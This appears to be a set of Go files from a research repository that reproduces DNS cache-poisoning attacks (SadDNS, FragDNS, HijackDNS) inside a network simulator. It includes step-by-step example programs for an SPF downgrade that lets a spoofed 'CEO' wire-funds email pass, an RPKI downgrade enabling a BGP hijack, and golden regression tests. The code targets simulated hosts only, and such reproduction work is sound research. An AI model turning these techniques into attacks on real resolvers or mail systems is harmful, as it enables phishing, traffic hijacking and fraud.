			Placements: []string{"stub"},
		},
		Trials:      2,
		LatticeRank: 1, // scalar defense axis: 5 singleton sets
	}
	tbl, cells, err := crosslayer.Experiments.Campaign(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if len(cells) != 20 { // 1 method × 2 victims × 1 profile × 5 defense sets × 2 depths × 1 placement
		t.Fatalf("campaign facade: %d cells", len(cells))
	}
	if tbl.String() == "" || crosslayer.CampaignSummary(cells).String() == "" ||
		crosslayer.CampaignLattice(cells).String() == "" {
		t.Fatal("empty campaign rendering")
	}
	cfg.Filter.Defenses = []string{"bogus"}
	if _, _, err := crosslayer.Experiments.Campaign(cfg); err == nil {
		t.Fatal("unknown defense key accepted")
	}
	cfg.Filter.Defenses = nil
	cfg.Filter.DefenseSets = []string{"shuffle+bogus"}
	if _, _, err := crosslayer.Experiments.Campaign(cfg); err == nil {
		t.Fatal("unknown defense-set key accepted")
	}
	// The defense pipeline is also a public scenario-level API: a
	// stacked config builds a scenario hardened by every spec.
	s := crosslayer.NewScenario(crosslayer.Config{Seed: 5,
		Defenses: []crosslayer.DefenseSpec{crosslayer.Defense0x20(), crosslayer.DefenseDNSSEC()}})
	if !s.Resolver.Prof.Use0x20 || !s.Resolver.Prof.ValidateDNSSEC {
		t.Fatal("facade defense stack did not reach the resolver profile")
	}
}
