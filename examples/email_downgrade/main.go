// Email anti-spam downgrade (§4.5 "Downgrade attacks"): SadDNS plants
// an attacker-friendly SPF policy for vict.im in the mail server's
// resolver; the next spoofed "CEO" mail from the attacker's network
// passes SPF and lands in the inbox. Also shows the bounce (DSN)
// query trigger.
package main

import (
	"fmt"
	"time"

	"crosslayer/internal/apps"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/scenario"
)

func main() {
	cfg := scenario.Config{Seed: 13}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10
	s := scenario.New(cfg)
	s.ResolverHost.Cfg.PortMin = 32768
	s.ResolverHost.Cfg.PortMax = 32768 + 499

	ms := apps.NewMailServer(s.ServiceHost, scenario.ResolverIP, "victim-net.example.")
	ms.LocalUsers["bob"] = true

	phish := apps.Mail{From: "ceo@vict.im", To: "bob@victim-net.example.",
		Body: "please wire funds", SenderIP: scenario.AttackerIP}

	fmt.Println("== before poisoning ==")
	ms.Deliver(phish, nil)
	s.Run()
	fmt.Printf("inbox=%d spam=%d (SPF rejected the spoofed sender)\n", len(ms.Inbox), len(ms.Spam))

	// The genuine SPF policy is cached for its 300s TTL; no trigger can
	// force a query until it expires (caching is the defender's friend
	// — and the reason attacks race freshly triggered queries).
	fmt.Println("\n(waiting out the 300s TTL of the cached genuine SPF record)")
	s.Clock.RunFor(301 * time.Second)

	fmt.Println("\n== SadDNS poisons vict.im TXT (SPF) using the bounce trigger ==")
	atk := &core.SadDNS{
		Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
		Spoof: core.Spoof{QName: "vict.im.", QType: dnswire.TypeTXT,
			Records: []*dnswire.RR{dnswire.NewTXT("vict.im.", 300, "v=spf1 ip4:6.6.6.0/24 -all")}},
		PortMin: 32768, PortMax: 32768 + 499,
		MuteQPS: 20, MaxIterations: 30,
		CheckSuccess: func() bool {
			rrs, _, ok := s.Resolver.Cache.Get("vict.im.", dnswire.TypeTXT)
			if !ok {
				return false
			}
			for _, rr := range rrs {
				if t, isTxt := rr.Data.(*dnswire.TXTData); isTxt && t.Joined() == "v=spf1 ip4:6.6.6.0/24 -all" {
					return true
				}
			}
			return false
		},
	}
	// The trigger IS the application: mail to a nonexistent recipient
	// makes the server resolve the (attacker-chosen) sender domain for
	// the bounce — §4.3.1.
	trigger := core.TriggerFunc(func() {
		ms.Deliver(apps.Mail{From: "nobody@vict.im", To: "ghost@victim-net.example.",
			Body: "trigger", SenderIP: scenario.AttackerIP}, nil)
	})
	res := atk.Run(trigger)
	fmt.Printf("poisoning success=%v after %d iterations, %d packets\n",
		res.Success, res.Iterations, res.AttackerPackets)

	fmt.Println("\n== after poisoning ==")
	ms.Deliver(phish, nil)
	s.Run()
	fmt.Printf("inbox=%d spam=%d", len(ms.Inbox), len(ms.Spam))
	if len(ms.Inbox) > 0 {
		fmt.Printf("  <- the spoofed CEO mail now passes SPF\n")
	} else {
		fmt.Println()
	}
}
