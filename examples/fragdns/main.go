// FragDNS walkthrough (paper Figure 2): shrink the path MTU with a
// spoofed ICMP Fragmentation Needed, craft a second fragment whose
// ones-complement sum matches the genuine one, plant it in the
// resolver's defragmentation cache, and let the genuine first fragment
// (carrying port + TXID) complete it.
package main

import (
	"fmt"

	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func main() {
	cfg := scenario.Config{Seed: 9}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200 // large responses fragment once the PMTU drops
	s := scenario.New(cfg)

	atk := &core.FragDNS{
		Attacker:     s.Attacker,
		ResolverAddr: scenario.ResolverIP,
		NSAddr:       scenario.NSIP,
		QName:        "www.vict.im.",
		QType:        dnswire.TypeA,
		SpoofAddr:    scenario.AttackerIP,
		ForcedMTU:    68, // the server clamps to its floor (552)
		ResolverEDNS: resolver.ProfileBIND.EDNSSize,
		PredictIPID:  true, // the scenario NS uses a global IPID counter
		IPIDGuesses:  64,
		CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
	}
	fmt.Println("step 1: spoofed ICMP PTB (MTU=68) -> nameserver caches a tiny path MTU")
	fmt.Println("step 2: fetch the public response to predict the second fragment's bytes")
	fmt.Println("step 3: patch A rdata -> 6.6.6.6, fix the sum inside the record's TTL")
	fmt.Println("step 4: plant the fragment for 64 consecutive IPIDs, trigger the query")
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))

	fmt.Printf("\nresult: success=%v iterations=%d attacker packets=%d\n",
		res.Success, res.Iterations, res.AttackerPackets)
	fmt.Printf("defrag cache reassemblies at the resolver: %d\n", s.ResolverHost.FragCache().Stats().Reassembled)
	fmt.Printf("cache now says www.vict.im = attacker: %v\n", s.Poisoned("www.vict.im.", dnswire.TypeA))

	// The challenge values were never guessed: zero rejected spoofs.
	fmt.Printf("spoofed responses the resolver had to reject: %d (FragDNS guesses nothing)\n", s.Resolver.SpoofRejected)
}
