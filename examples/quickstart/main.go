// Quickstart: build the canonical scenario, resolve a name the honest
// way, launch the cheapest attack (HijackDNS), watch the victim's
// web client walk into the attacker's server — then regenerate a
// paper artifact through the experiment registry.
package main

import (
	"fmt"
	"log"

	"crosslayer"
	"crosslayer/internal/apps"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/scenario"
)

func main() {
	s := crosslayer.NewScenario(crosslayer.Config{Seed: 1})

	// Honest resolution first.
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(rrs []*dnswire.RR, err error) {
		fmt.Printf("honest lookup: %v (err=%v)\n", rrs[0], err)
	})
	s.Run()

	// Give both sides a web presence.
	apps.NewWebServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA}).Pages["/"] = "the genuine vict.im homepage"
	apps.NewWebServer(s.Attacker, apps.SelfSigned("www.vict.im.")).Pages["/"] = "a pixel-perfect phishing page"

	// Expire the honest entry so the attack races a fresh query.
	s.Clock.RunFor(301e9)

	res := crosslayer.RunHijackDNS(s, crosslayer.AttackOptions{})
	fmt.Printf("\nHijackDNS: success=%v packets=%d detail=%q\n", res.Success, res.AttackerPackets, res.Detail)
	fmt.Printf("cache poisoned: %v\n", crosslayer.Poisoned(s, "www.vict.im."))

	// The victim's browser now lands on the attacker.
	wc := &apps.WebClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP}
	wc.Get("www.vict.im.", "/", func(r apps.FetchResult) {
		fmt.Printf("\nvictim fetches http://www.vict.im/ -> server %v\n  body: %s\n", r.ServerAddr, r.Body)
	})
	s.Run()

	// Every evaluation artifact is a registered experiment: enumerate
	// the registry, then regenerate one by name. Run returns a
	// structured Report — print it as text, or render JSON/CSV/
	// Markdown with crosslayer.RenderReport.
	fmt.Println("\nregistered experiments:")
	for _, e := range crosslayer.ListExperiments() {
		fmt.Printf("  %-12s %s\n", e.Name, e.Title)
	}
	rep, err := crosslayer.Run("table5", crosslayer.ExperimentSpec{Seed: 1})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\n%s", rep)
}
