// RPKI downgrade (the paper's headline cross-layer attack, §1/§4.5):
// poison the relying party's resolver for its repository hostname,
// serve it an empty repository, and the victim prefix's ROA vanishes
// from every ROV router's view. A sub-prefix hijack that route-origin
// validation used to reject is now "unknown" — and accepted.
package main

import (
	"fmt"
	"net/netip"

	"crosslayer/internal/bgp"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/resolver"
	"crosslayer/internal/rpki"
	"crosslayer/internal/scenario"
)

func main() {
	cfg := scenario.Config{Seed: 11}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := scenario.New(cfg)

	// Every AS enforces route-origin validation, fed by one relying
	// party that fetches ROAs from the repository at rpki.vict.im.
	for _, asn := range s.Topo.ASNs() {
		s.Topo.AS(asn).ROV = true
	}
	protected := scenario.DomainPrefix // 123.0.0.0/22, origin AS 20
	rpki.NewRepository(s.WWWHost, []bgp.ROA{{Prefix: protected, Origin: scenario.DomainAS, MaxLength: 24}})
	rpki.EmptyRepository(s.Attacker)
	rp := rpki.NewRelyingParty(s.ServiceHost, scenario.ResolverIP, "rpki.vict.im.")
	rp.Sync(nil)
	s.Run()
	s.RIB.SetROAView(rp.View())

	hijack := netip.MustParsePrefix("123.0.0.0/24")
	try := func(label string) {
		s.RIB.Announce(hijack, scenario.AttackerAS)
		origin, _ := s.RIB.Resolve(scenario.VictimAS, scenario.NSIP)
		verdict := rp.Validity(bgp.Announcement{Prefix: hijack, Origin: scenario.AttackerAS})
		fmt.Printf("%s: validation=%v, traffic for 123.0.0.53 goes to AS%d\n", label, verdict, origin)
		s.RIB.Withdraw(hijack, scenario.AttackerAS)
	}

	fmt.Println("== with healthy RPKI ==")
	try("sub-prefix hijack attempt")

	fmt.Println("\n== cross-layer attack ==")
	fmt.Println("step 1: FragDNS poisons the relying party's resolver for rpki.vict.im")
	atk := &core.FragDNS{
		Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
		QName: "rpki.vict.im.", QType: dnswire.TypeA, SpoofAddr: scenario.AttackerIP,
		ForcedMTU: 68, ResolverEDNS: resolver.ProfileBIND.EDNSSize,
		PredictIPID: true, IPIDGuesses: 64,
		CheckSuccess: func() bool { return s.Poisoned("rpki.vict.im.", dnswire.TypeA) },
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "rpki.vict.im.", dnswire.TypeA))
	fmt.Printf("        poisoning success=%v (%d packets)\n", res.Success, res.AttackerPackets)

	fmt.Println("step 2: relying party syncs — and fetches from the attacker's empty repo")
	rp.Sync(func(ok bool) { fmt.Printf("        sync 'succeeded'=%v, ROAs held=%d\n", ok, len(rp.ROAs())) })
	s.Run()
	s.RIB.SetROAView(rp.View())

	fmt.Println("step 3: the same hijack again")
	try("sub-prefix hijack attempt")
	fmt.Println("\nROV was not bypassed by forging signatures — it was starved of data.")
}
