// SadDNS walkthrough (paper Figure 1): mute the nameserver through its
// response-rate limiting, find the resolver's ephemeral port through
// the global ICMP rate-limit side channel, brute-force the TXID, and
// verify the poisoned cache. A trace of the key packets is printed.
package main

import (
	"fmt"
	"net/netip"

	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/packet"
	"crosslayer/internal/scenario"
)

func main() {
	cfg := scenario.Config{Seed: 7}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10 // rate-limited NS: SadDNS's muting lever
	s := scenario.New(cfg)

	// Narrow the port range so the demo converges in one iteration
	// (the full 28k-port hunt is the Table 6 benchmark).
	s.ResolverHost.Cfg.PortMin = 32768
	s.ResolverHost.Cfg.PortMax = 32768 + 499

	// Print a few of each interesting packet kind (Figure 1's arrows):
	// the spoofed NS→resolver traffic is either a tiny port probe or a
	// full DNS response of the TXID flood, told apart by payload size.
	probes, floods := 0, 0
	s.Net.Trace = func(ev netsim.TraceEvent) {
		if ev.To != scenario.ResolverIP || ev.From != scenario.NSIP || ev.Proto != packet.ProtoUDP {
			return
		}
		const udpHeader = 8
		if ev.Size <= udpHeader+16 { // "probe"/"pad" payloads
			probes++
			if probes <= 3 {
				fmt.Printf("  [%8v] spoofed port probe #%d  %v -> %v (%d bytes)\n",
					ev.At, probes, ev.From, ev.To, ev.Size)
			}
		} else { // a forged DNS response of the TXID flood
			floods++
			if floods <= 3 {
				fmt.Printf("  [%8v] TXID-flood response #%d %v -> %v (%d bytes)\n",
					ev.At, floods, ev.From, ev.To, ev.Size)
			}
		}
	}

	atk := &core.SadDNS{
		Attacker:     s.Attacker,
		ResolverAddr: scenario.ResolverIP,
		NSAddr:       scenario.NSIP,
		Spoof: core.Spoof{QName: "www.vict.im.", QType: dnswire.TypeA,
			Records: []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)}},
		PortMin: 32768, PortMax: 32768 + 499,
		MuteQPS: 20, MaxIterations: 30,
		CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
	}
	fmt.Println("step 1: flood queries to mute the rate-limited nameserver")
	fmt.Println("step 2: trigger query 'www.vict.im. A?' at the victim resolver")
	fmt.Println("step 3: scan UDP ports, 50 spoofed probes + 1 verification per ICMP window")
	fmt.Println("step 4: divide and conquer, then flood 2^16 TXIDs")
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))

	fmt.Printf("\nresult: success=%v iterations=%d attacker packets=%d duration=%v\n",
		res.Success, res.Iterations, res.AttackerPackets, res.Duration)
	fmt.Printf("trace saw %d spoofed port probes and %d TXID-flood responses\n", probes, floods)
	fmt.Printf("spoofed datagrams the resolver rejected (wrong TXID): %d\n", s.Resolver.SpoofRejected)
	fmt.Printf("cache now says www.vict.im = attacker: %v\n", s.Poisoned("www.vict.im.", dnswire.TypeA))
	_ = netip.Addr{}
}
