module crosslayer

go 1.23
