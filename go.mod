module crosslayer

go 1.24
