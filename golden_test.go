package crosslayer_test

// Golden-artifact regression suite, in two layers:
//
//   - TestGoldenArtifacts pins every rendered TEXT artifact — Tables
//     1–6, Figures 3–5, the campaign matrix, the forwarder-chain
//     matrix with its depth table, the defense-stacking lattice with
//     its marginal-coverage view, and the encrypted-transport slice
//     with its method × transport table — byte-for-byte against
//     testdata/golden/*.txt at one small fixed execution spec
//     (SampleCap 50, Seed 1). These files predate the structured
//     Report layer: any refactor that changes a single rendered byte
//     fails here first.
//
//   - TestGoldenJSON pins the JSON projection of every REGISTERED
//     experiment against testdata/golden/json/<name>.json, and checks
//     the round-trip contract: decoding the pinned JSON and
//     re-rendering text reproduces the live text bytes.
//
// Regenerate after an INTENDED output change with:
//
//	go test -run TestGolden -update .
//
// and review the golden diff like any other code change.

import (
	"context"
	"flag"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"crosslayer"
	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
	"crosslayer/internal/report"
)

var update = flag.Bool("update", false, "rewrite testdata/golden files from current output")

// goldenSpec is the fixed execution spec every golden artifact runs
// under. Parallelism is deliberately left at the default: the
// engine's determinism contract makes output independent of it.
// table6 and samehijack keep the historical 400-port SadDNS span; the
// campaign slice keeps the filters of goldenCampaignConfig (all
// methods and scalar defenses against a representative victim ×
// profile corner — dnsmasq included because its small EDNS buffer
// flips the FragDNS column — on the direct path).
func goldenSpec(name string) crosslayer.ExperimentSpec {
	spec := crosslayer.ExperimentSpec{SampleCap: 50, Seed: 1}
	switch name {
	case "table6", "samehijack":
		spec.SadPorts = 400
	case "campaign":
		spec.Victims = []string{"web", "smtp"}
		spec.Profiles = []string{"bind", "dnsmasq"}
		spec.ChainDepths = []string{"0"}
		spec.Placements = []string{"stub"}
		spec.Transports = []string{"udp"}
		spec.Trials = 2
		spec.LatticeRank = 1
	}
	return spec
}

// goldenConfig is goldenSpec's execution core, for the campaign
// slices the suite runs directly at the cells level.
func goldenConfig() measure.Config { return measure.Config{SampleCap: 50, Seed: 1} }

// goldenChainConfig is the forwarder-chain slice: every method at
// every chain depth from both attacker placements, against one victim
// × profile corner, undefended and 0x20-hardened (the defense the
// chain axis bypasses — the §4.3 story the depth table renders).
func goldenChainConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:    []string{"web"},
			Profiles:   []string{"bind"},
			Defenses:   []string{"none", "0x20"},
			Transports: []string{"udp"},
		},
		Trials: 2,
	}
}

// goldenLatticeConfig is the defense-stacking slice: every method
// against the web victim on BIND over the direct path, swept across
// the default defense-set lattice (baseline, singletons, all pairs,
// full stack) — the composition view campaign_lattice.txt pins.
// Singleton cells are seed-identical to the campaign slice's, so both
// artifacts must agree on the shared cells.
func goldenLatticeConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:     []string{"web"},
			Profiles:    []string{"bind"},
			ChainDepths: []string{"0"},
			Placements:  []string{"stub"},
			Transports:  []string{"udp"},
		},
		Trials: 2,
	}
}

// goldenTransportConfig is the encrypted-transport slice: every method
// against the web victim on BIND behind one forwarder hop, undefended,
// across the plaintext baseline, two strict encrypted chains, the
// mixed chain (plaintext front hop, encrypted recursive) and the
// opportunistic chain — the threat-surface story campaign_transport.txt
// pins: off-path methods collapse on the encrypted columns and SadDNS
// re-opens on the mixed one.
func goldenTransportConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:     []string{"web"},
			Profiles:    []string{"bind"},
			Defenses:    []string{"none"},
			ChainDepths: []string{"1"},
			Placements:  []string{"stub"},
			Transports:  []string{"udp", "dot", "doh", "mixed", "opp"},
		},
		Trials: 2,
	}
}

// goldenDeployConfig is the deployment-distribution slice: every
// method against the web victim on BIND over the direct path,
// undefended, under the canonical (unsampled) dataset and both sampled
// populations — the rate-with-CI story campaign_deploy.txt pins: the
// canonical column answers "is this configuration vulnerable", the
// sampled columns "what fraction of a deployed population is".
func goldenDeployConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:     []string{"web"},
			Profiles:    []string{"bind"},
			Defenses:    []string{"none"},
			ChainDepths: []string{"0"},
			Placements:  []string{"stub"},
			Transports:  []string{"udp"},
			Deployments: []string{"canonical", "measured", "hardened"},
		},
		Trials: 4,
	}
}

// goldenReports runs each registered experiment once under its golden
// spec; the text and JSON layers share the resulting Reports.
var goldenReports = struct {
	mu   sync.Mutex
	runs map[string]func() (*crosslayer.Report, error)
}{runs: map[string]func() (*crosslayer.Report, error){}}

func goldenReport(name string) (*crosslayer.Report, error) {
	goldenReports.mu.Lock()
	run, ok := goldenReports.runs[name]
	if !ok {
		run = sync.OnceValues(func() (*crosslayer.Report, error) {
			return crosslayer.Run(name, goldenSpec(name))
		})
		goldenReports.runs[name] = run
	}
	goldenReports.mu.Unlock()
	return run()
}

// goldenChain / goldenLattice run each cells-level slice once.
var goldenChain = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenChainConfig())
})

var goldenLattice = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenLatticeConfig())
})

var goldenTransport = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenTransportConfig())
})

var goldenDeploy = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenDeployConfig())
})

// compareGolden pins got against the golden file at path, rewriting
// it under -update.
func compareGolden(t *testing.T, path string, got []byte) {
	t.Helper()
	if len(got) == 0 {
		t.Fatal("artifact rendered empty")
	}
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("missing golden file (run `go test -run TestGolden -update .`): %v", err)
	}
	if string(got) != string(want) {
		t.Fatalf("output drifted from golden file %s\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

// registryReport fetches a shared golden-run Report or fails the test.
func registryReport(t *testing.T, name string) *crosslayer.Report {
	t.Helper()
	rep, err := goldenReport(name)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// registrySection renders one named section of a registry report.
func registrySection(t *testing.T, name, section string) string {
	t.Helper()
	sec := registryReport(t, name).Section(section)
	if sec == nil {
		t.Fatalf("report %q has no section %q", name, section)
	}
	return sec.Text()
}

func TestGoldenArtifacts(t *testing.T) {
	artifacts := []struct {
		name   string
		render func(t *testing.T) string
	}{
		// Whole-report artifacts: for single-section reports the text
		// rendering IS the historical artifact (notes and params are
		// metadata the text renderer omits).
		{"table1", func(t *testing.T) string { return registryReport(t, "table1").String() }},
		{"table2", func(t *testing.T) string { return registryReport(t, "table2").String() }},
		{"table3", func(t *testing.T) string { return registryReport(t, "table3").String() }},
		{"table4", func(t *testing.T) string { return registryReport(t, "table4").String() }},
		{"table5", func(t *testing.T) string { return registryReport(t, "table5").String() }},
		{"table6", func(t *testing.T) string { return registryReport(t, "table6").String() }},
		{"fig3", func(t *testing.T) string { return registryReport(t, "fig3").String() }},
		{"fig4", func(t *testing.T) string { return registryReport(t, "fig4").String() }},
		{"fig5", func(t *testing.T) string { return registryReport(t, "fig5").String() }},
		// Campaign artifacts: the matrix and summary sections of the
		// registry run's Report, and the chain/lattice slices rendered
		// at the cells level.
		{"campaign", func(t *testing.T) string { return registrySection(t, "campaign", "matrix") }},
		{"campaign_summary", func(t *testing.T) string { return registrySection(t, "campaign", "summary") }},
		{"campaign_chain", func(t *testing.T) string {
			res, err := goldenChain()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Matrix(res).String()
		}},
		{"campaign_depth", func(t *testing.T) string {
			res, err := goldenChain()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.DepthTable(res).String()
		}},
		{"campaign_lattice", func(t *testing.T) string {
			res, err := goldenLattice()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Lattice(res).String()
		}},
		{"campaign_transport", func(t *testing.T) string {
			res, err := goldenTransport()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.TransportTable(res).String()
		}},
		{"campaign_transport_matrix", func(t *testing.T) string {
			res, err := goldenTransport()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Matrix(res).String()
		}},
		{"campaign_deploy", func(t *testing.T) string {
			res, err := goldenDeploy()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.DeployTable(res).String()
		}},
	}
	for _, a := range artifacts {
		a := a
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			compareGolden(t, filepath.Join("testdata", "golden", a.name+".txt"), []byte(a.render(t)))
		})
	}
}

// TestGoldenJSON pins the JSON projection of every registered
// experiment and its round-trip: the pinned bytes must decode into a
// Report whose text rendering matches the live run's.
func TestGoldenJSON(t *testing.T) {
	for _, e := range crosslayer.ListExperiments() {
		e := e
		t.Run(e.Name, func(t *testing.T) {
			t.Parallel()
			rep := registryReport(t, e.Name)
			data, err := report.JSON(rep)
			if err != nil {
				t.Fatal(err)
			}
			compareGolden(t, filepath.Join("testdata", "golden", "json", e.Name+".json"), data)

			// Round-trip: the pinned JSON re-renders to the live text.
			pinned, err := os.ReadFile(filepath.Join("testdata", "golden", "json", e.Name+".json"))
			if err != nil {
				t.Fatal(err)
			}
			back, err := crosslayer.DecodeReport(pinned)
			if err != nil {
				t.Fatal(err)
			}
			if back.String() != rep.String() {
				t.Fatalf("decoded golden JSON re-renders differently for %s", e.Name)
			}
		})
	}
}

// TestGoldenJSONIndependentOfParallelism: the JSON projection — like
// the text one — depends only on the selecting spec fields, never on
// the worker count.
func TestGoldenJSONIndependentOfParallelism(t *testing.T) {
	spec := goldenSpec("campaign")
	spec.Parallelism = 1
	ref, err := crosslayer.RunContext(context.Background(), "campaign", spec)
	if err != nil {
		t.Fatal(err)
	}
	refJSON, err := report.JSON(ref)
	if err != nil {
		t.Fatal(err)
	}
	spec.Parallelism = 8
	rep, err := crosslayer.RunContext(context.Background(), "campaign", spec)
	if err != nil {
		t.Fatal(err)
	}
	got, err := report.JSON(rep)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(refJSON) {
		t.Fatal("parallelism changed the JSON projection")
	}
}
