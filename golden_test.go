package crosslayer_test

// Golden-artifact regression suite: every rendered artifact — Tables
// 1–6, Figures 3–5, the campaign matrix, the forwarder-chain matrix
// with its depth table, and the defense-stacking lattice with its
// marginal-coverage view — is pinned byte-for-byte against
// testdata/golden/*.txt at one small fixed execution config
// (ExperimentConfig{SampleCap: 50, Seed: 1}). Any refactor that
// changes a single rendered byte fails here first.
//
// Regenerate after an INTENDED output change with:
//
//	go test -run TestGoldenArtifacts -update .
//
// and review the golden diff like any other code change.

import (
	"flag"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

var update = flag.Bool("update", false, "rewrite testdata/golden files from current output")

// goldenConfig is the fixed execution config every golden artifact is
// rendered under. Parallelism is deliberately left at the default:
// the engine's determinism contract makes output independent of it.
func goldenConfig() measure.Config { return measure.Config{SampleCap: 50, Seed: 1} }

// goldenCampaignConfig is the campaign slice pinned by the suite: all
// methods and scalar defenses (lattice rank 1 — the historical axis,
// whose singleton set keys keep the exact pre-lattice cell seeds)
// against a representative victim × profile corner (dnsmasq included
// because its small EDNS buffer flips the FragDNS column), on the
// direct path (depth 0, stub attacker). The slice keeps the suite
// fast; identity-derived cell seeds guarantee these cells render
// identically inside any larger sweep.
func goldenCampaignConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:     []string{"web", "smtp"},
			Profiles:    []string{"bind", "dnsmasq"},
			ChainDepths: []string{"0"},
			Placements:  []string{"stub"},
		},
		Trials:      2,
		LatticeRank: 1,
	}
}

// goldenChainConfig is the forwarder-chain slice: every method at
// every chain depth from both attacker placements, against one victim
// × profile corner, undefended and 0x20-hardened (the defense the
// chain axis bypasses — the §4.3 story the depth table renders).
func goldenChainConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:  []string{"web"},
			Profiles: []string{"bind"},
			Defenses: []string{"none", "0x20"},
		},
		Trials: 2,
	}
}

// goldenLatticeConfig is the defense-stacking slice: every method
// against the web victim on BIND over the direct path, swept across
// the default defense-set lattice (baseline, singletons, all pairs,
// full stack) — the composition view campaign_lattice.txt pins.
// Singleton cells are seed-identical to goldenCampaignConfig's, so
// both artifacts must agree on the shared cells.
func goldenLatticeConfig() campaign.Config {
	return campaign.Config{
		Exec: goldenConfig(),
		Filter: campaign.Filter{
			Victims:     []string{"web"},
			Profiles:    []string{"bind"},
			ChainDepths: []string{"0"},
			Placements:  []string{"stub"},
		},
		Trials: 2,
	}
}

// goldenCampaign / goldenChain / goldenLattice run each pinned sweep
// once; matrix, summary, depth-table and lattice artifacts render from
// the same cells.
var goldenCampaign = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenCampaignConfig())
})

var goldenChain = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenChainConfig())
})

var goldenLattice = sync.OnceValues(func() ([]campaign.CellResult, error) {
	return campaign.Run(goldenLatticeConfig())
})

func TestGoldenArtifacts(t *testing.T) {
	artifacts := []struct {
		name   string
		render func(t *testing.T) string
	}{
		{"table1", func(t *testing.T) string { return measure.Table1().String() }},
		{"table2", func(t *testing.T) string { return measure.Table2().String() }},
		{"table3", func(t *testing.T) string {
			tbl, _ := measure.Table3Run(goldenConfig())
			return tbl.String()
		}},
		{"table4", func(t *testing.T) string {
			tbl, _ := measure.Table4Run(goldenConfig())
			return tbl.String()
		}},
		{"table5", func(t *testing.T) string {
			tbl, _ := measure.Table5Run(goldenConfig())
			return tbl.String()
		}},
		{"table6", func(t *testing.T) string {
			tbl, _ := measure.Table6Run(goldenConfig(), 400)
			return tbl.String()
		}},
		{"fig3", func(t *testing.T) string {
			out, _ := measure.Figure3Run(goldenConfig())
			return out
		}},
		{"fig4", func(t *testing.T) string {
			out, _, _ := measure.Figure4Run(goldenConfig())
			return out
		}},
		{"fig5", func(t *testing.T) string {
			out, _, _ := measure.Figure5Run(goldenConfig())
			return out
		}},
		{"campaign", func(t *testing.T) string {
			res, err := goldenCampaign()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Matrix(res).String()
		}},
		{"campaign_summary", func(t *testing.T) string {
			res, err := goldenCampaign()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Summary(res).String()
		}},
		{"campaign_chain", func(t *testing.T) string {
			res, err := goldenChain()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.Matrix(res).String()
		}},
		{"campaign_depth", func(t *testing.T) string {
			res, err := goldenChain()
			if err != nil {
				t.Fatal(err)
			}
			return campaign.DepthTable(res).String()
